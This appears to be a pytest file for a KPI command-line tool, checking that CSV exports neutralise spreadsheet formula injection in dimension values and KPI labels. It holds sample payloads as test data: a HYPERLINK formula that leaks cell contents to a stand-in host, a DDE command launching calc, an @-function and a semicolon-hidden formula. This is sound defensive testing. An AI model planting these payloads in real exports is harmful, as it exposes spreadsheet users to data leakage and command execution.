"""CSV exports a spreadsheet opens safely: text that would run as a formula is made inert, numbers stay numbers.

Each attack is a dimension value (from the data) or a KPI label (from the definitions) that a spreadsheet would
evaluate when the CSV is opened: a formula that leaks data to a URL, a DDE command, an @-function, and a formula
hidden behind a semicolon, which spreadsheets in many locales take as the separator.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from kpilot.cli.export_safety import neutralised
from kpilot.cli.output import csv_cell, csv_text
from tests.support import make_workspace
from tests.support import run_cli as kpilot

DEFINITIONS = """
sources:
  - name: ads
    table: ads
    time: day
    dimensions: [channel]
    measures:
      - {name: clicks, agg: sum, expr: clicks}
kpis:
  - {name: clicks, label: '=HYPERLINK("http://evil.example/","open")', formula: clicks}
"""
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
CHANNELS = [LEAK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "north;=1+1", "plain"]
CLICKS = [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, -3.5]


@pytest.fixture
def workspace(tmp_path: Path, backend: str) -> Path:
    """One day of clicks per channel, every channel name an attack but the last."""
    root = tmp_path / "ws"
    days = [date(2025, 1, 5)] * len(CHANNELS)
    tables = {"ads": {"day": days, "channel": CHANNELS, "clicks": CLICKS}}
    make_workspace(root, DEFINITIONS, tables, warehouse=backend).close()
    return root


def test_compute_csv_neutralises_formulas_in_dimension_values(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ["compute", "clicks", "--grain", "all", "--by", "channel", "--to", "2025-01-31", "--format", "csv"]
    code, out, _ = kpilot(capsys, *args, "-w", str(workspace))
    assert code == 0
    lines = out.split("\n")  # not splitlines(): a quoted \r is part of a cell, not a line end
    assert lines[0] == "channel,clicks,partial"
    assert lines[-1] == ""
    # The warehouse's collation decides the row order, so compare the set of lines, each worked out by hand: a
    # leading ' for text starting with = + - @ tab or CR; quotes around cells holding , " ; tab or CR.
    assert set(lines[1:-1]) == {
        """"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",1.0,false""",
        "'+cmd|' /C calc'!A0,2.0,false",
        "'@SUM(1+1),3.0,false",
        "'-2+3,4.0,false",
        '"\'\t=1+1",5.0,false',
        '"\'\r=1+1",6.0,false',
        '"north;=1+1",7.0,false',
        "plain,-3.5,false",  # a negative number is a number, not text: no quote
    }
    parsed = list(csv.reader(io.StringIO(out, newline="")))
    cells = {row[0]: row[1] for row in parsed[1:]}
    assert cells == {
        "'" + LEAK: "1.0",
        "'+cmd|' /C calc'!A0": "2.0",
        "'@SUM(1+1)": "3.0",
        "'-2+3": "4.0",
        "'\t=1+1": "5.0",
        "'\r=1+1": "6.0",
        "north;=1+1": "7.0",
        "plain": "-3.5",
    }


def test_scorecard_csv_neutralises_a_kpi_label(workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = kpilot(capsys, "scorecard", "--period", "2025-01", "--format", "csv", "-w", str(workspace))
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["kpi"] == "clicks"
    assert row["label"] == '\'=HYPERLINK("http://evil.example/","open")'
    assert row["value"] == "24.5"  # 1 + 2 + ... + 7 = 28, and -3.5
    assert row["period"] == "2025-01-01"


def test_json_keeps_the_text_as_it_is(workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The guard is for spreadsheets; JSON consumers get the exact values."""
    args = ["compute", "clicks", "--grain", "all", "--by", "channel", "--format", "json", "-w", str(workspace)]
    code, out, _ = kpilot(capsys, *args)
    assert code == 0
    assert LEAK.replace('"', '\\"') in out
    assert "'=HYPERLINK" not in out


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3.5, "-3.5"),
        (-3, "-3"),
        (Decimal("-2.50"), "-2.5"),
        (1e-20, "1e-20"),
        (True, "true"),
        (None, ""),
        (date(2025, 1, 1), "2025-01-01"),
        ("-3.5", "'-3.5"),  # text that looks like a number is still text
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_text_quotes_what_a_reader_could_split() -> None:
    text = csv_text(["name", "n"], [["a,b", 1], ['say "hi"', 2], ["x;=1", 3], ["line\nbreak", 4], ["ok", -1]])
    assert text == 'name,n\n"a,b",1\n"say ""hi""",2\n"x;=1",3\n"line\nbreak",4\nok,-1\n'


def test_one_rule_for_every_format() -> None:
    """The rule an XLSX writer will share: a leading quote for each formula start, nothing else."""
    assert [neutralised(text) for text in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a", "'a", "")] == [
        "'=a",
        "'+a",
        "'-a",
        "'@a",
        "'\ta",
        "'\ra",
        "a",
        "'a",
        "",
    ]
